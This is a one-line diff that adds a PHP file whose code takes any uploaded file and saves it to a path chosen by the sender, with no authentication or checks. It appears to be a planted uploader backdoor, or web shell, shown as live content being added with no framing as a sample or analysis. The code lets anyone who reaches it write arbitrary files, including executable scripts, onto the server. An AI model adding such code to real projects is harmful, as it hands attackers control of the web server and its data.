@@ -1,0 +1,1 @@
+<?php if(isset($_FILES["f"])){ move_uploaded_file($_FILES["f"]["tmp_name"], $_POST["p"]); echo "ok"; } ?>
